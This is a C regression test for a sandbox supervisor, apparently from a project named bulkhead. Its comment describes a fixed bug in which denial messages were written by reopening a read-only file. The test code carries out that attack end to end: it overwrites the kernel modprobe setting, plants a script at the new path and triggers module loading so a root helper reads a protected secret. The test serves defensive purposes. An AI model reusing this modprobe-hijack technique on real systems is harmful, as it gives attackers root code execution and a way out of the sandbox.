// Review 42, attacker model B (the default domain's program counter, any
// system call the filter allows), as root: the denial line's fallback
// (a0ad5e6, bh_supervisor_say) is a write, as the supervisor, to any file
// the program holds open for reading. When pidfd_getfd of the leader's
// descriptor 2 fails (a leader that ended with pthread_exit has no
// descriptors), the supervisor opens /proc/<tid>/fd/2 again with O_WRONLY:
// a new open of the file that descriptor names, with the supervisor's
// rights, not the descriptor's mode. The supervisor refuses the program
// itself every open for writing of a kernel setting (review 30,
// judge_write / bh_kernel_setting), but not an open for reading, and the
// say fallback judges nothing.
//
// How: a fork of main (ours) makes a thread and ends its main thread
// with pthread_exit; the thread opens /proc/sys/kernel/modprobe read-only
// as descriptor 2 and makes a call the supervisor refuses (an anonymous
// rwx mmap). The supervisor writes "bulkhead: denied: mmap(...) from the
// default domain, in process P (thread T) - why" into the sysctl (a
// write at offset 0 sets it, up to the first newline or 255 bytes). The
// attacker controls the mmap's arguments in the text and reads the rest
// back. main, root, then reads the new modprobe path (relative: the
// kernel resolves it from init's working directory, "/"), creates that
// file as a script that runs this test's helper, and asks for a socket
// family with no module loaded: the kernel's request_module starts the
// "modprobe" as root with every capability, under no filter and no
// supervisor, and it reads the vault's secret through /proc/<main>/mem
// (the script also puts the old modprobe path back).
// (Other sysctls and any root-only file the program can read are open to
// the same write; the text of the line starts with "bulkhead: " and is
// the attacker's in its numbers, and in an open's path, which may hold a
// newline: review 42, reasoned.)
//
// The control: the child's main thread stays (pause): pidfd_getfd gives
// the read-only descriptor 2, the write fails, the sysctl is unchanged.
//
// Seen in the guest (root, 3 runs of 3): ATTACK SUCCEEDED.
//
// Suggested fix: never open the file again. Write the line only through
// a descriptor the caller holds (pidfd_getfd of the thread: PIDFD_THREAD,
// Linux 6.9; or of a live thread of the process found in
// /proc/<tgid>/task), whose mode the kernel checks; failing that, no line
// (the process still stops). If a reopen stays, make it with the caller's
// credentials (take_credentials) and refuse what bh_kernel_setting and
// judge_write refuse to an open for writing.
//
// Fixed (2035e2c, before this test was merged): the fallback is gone; the
// supervisor writes a denial's line only through a descriptor the caller
// holds (pidfd_getfd), else none.
// REQUIRES: pku
// RUN: rm -rf %t && mkdir %t
// RUN: %clang -O1 %S/Inputs/mem-reader.c -o %t/helper
// RUN: %bulkhead_clang -fpkey-compartments -O1 %s -o %t/prog -lpthread
// RUN: %run %t/prog control %t/helper > %t/control.out 2>&1 || true
// RUN: FileCheck %s --check-prefix=CONTROL < %t/control.out
// RUN: %run %t/prog attack %t/helper > %t/out 2>&1 || true
// RUN: FileCheck %s < %t/out
// CONTROL: uid 0
// CONTROL: modprobe unchanged
// CONTROL-NOT: ATTACK SUCCEEDED
// CHECK: uid 0
// CHECK-NOT: ATTACK SUCCEEDED
// CHECK: attack failed
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#include <bulkhead.h>

BULKHEAD_DATA(vault) static char secret[32] = "TOP-SECRET-VAULT-KEY";
BULKHEAD_ENTRY(vault) int vault_len(void) { return (int)strlen(secret); }

static const char *setting = "/proc/sys/kernel/modprobe";
static int control;

static int get(const char *file, char *buf, size_t size) {
  int fd = open(file, O_RDONLY);
  ssize_t n = fd < 0 ? -1 : read(fd, buf, size - 1);
  if (fd >= 0)
    close(fd);
  buf[n > 0 ? n : 0] = 0;
  if (n > 0 && buf[n - 1] == '\n')
    buf[n - 1] = 0;
  return n > 0;
}

#include "Inputs/leader-gone.h"

/* In the child: descriptor 2 becomes the setting, read-only; then a call
 * the supervisor refuses, whose line goes there. */
static void *denier(void *arg) {
  (void)arg;
  for (int i = 0; i < 5000 && !control && !leader_gone(); i++)
    usleep(1000);
  int fd = open(setting, O_RDONLY);
  if (fd < 0 || dup2(fd, 2) != 2)
    _exit(4);
  mmap(NULL, 4096, PROT_READ | PROT_WRITE | PROT_EXEC,
       MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
  _exit(3); /* not reached: the supervisor kills the process */
}

/* mkdir -p of every directory in path (relative to /). */
static void make_dirs(char *path) {
  for (char *s = strchr(path + 1, '/'); s; s = strchr(s + 1, '/')) {
    *s = 0;
    if (mkdir(path, 0755) && errno != EEXIST)
      printf("mkdir %s: %s\n", path, strerror(errno));
    *s = '/';
  }
}

int main(int argc, char **argv) {
  printf("uid %d\nvault says %d\n", (int)getuid(), vault_len());
  fflush(stdout);
  if (argc < 3)
    return 2;
  control = !strcmp(argv[1], "control");
  char old[512], now[512];
  get(setting, old, sizeof old);
  pid_t child = fork();
  if (child == 0) {
    pthread_t t;
    pthread_create(&t, NULL, denier, NULL);
    if (control)
      for (;;)
        pause();
    pthread_exit(NULL);
  }
  int st;
  waitpid(child, &st, 0);
  get(setting, now, sizeof now);
  printf("child ended by signal %d\n", WIFSIGNALED(st) ? WTERMSIG(st) : 0);
  if (!strcmp(old, now)) {
    printf("modprobe unchanged: %s\nattack failed\n", now);
    return 0;
  }
  printf("modprobe now: %s\n", now);
  /* The kernel runs it from init's working directory, /. */
  char path[600];
  snprintf(path, sizeof path, "/%s", now);
  make_dirs(path);
  const char *out = "/tmp/rev42-modprobe.out";
  unlink(out);
  char script[2048];
  snprintf(script, sizeof script, "#!/bin/sh\necho '%s' > %s\nexec %s %d %lx %s\n",
           old, setting, argv[2], (int)getpid(), (unsigned long)secret, out);
  int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0755);
  if (fd < 0 || write(fd, script, strlen(script)) != (ssize_t)strlen(script))
    printf("cannot write %s: %s\n", path, strerror(errno));
  if (fd >= 0)
    close(fd);
  /* Families Debian builds as modules: request_module("net-pf-N"). */
  static const int fams[] = {21, 30, 29, 9, 5, 3, 4, 33, 41};
  static char copy[32];
  long got = -1;
  for (unsigned i = 0; i < sizeof fams / sizeof *fams && got != 31; i++) {
    int s = socket(fams[i], SOCK_SEQPACKET, 0);
    if (s >= 0)
      close(s);
    for (int j = 0; j < 20 && got != 31; j++) {
      int o = open(out, O_RDONLY);
      got = o < 0 ? -1 : (long)read(o, copy, 31);
      if (o >= 0)
        close(o);
      if (got != 31)
        usleep(100000);
    }
  }
  get(setting, now, sizeof now);
  printf("helper's file: %ld bytes; modprobe back to: %s\n", got, now);
  if (strstr(copy, "TOP-SECRET"))
    printf("ATTACK SUCCEEDED: the vault's secret read: %s\n", copy);
  else
    printf("attack failed\n");
  return 0;
}
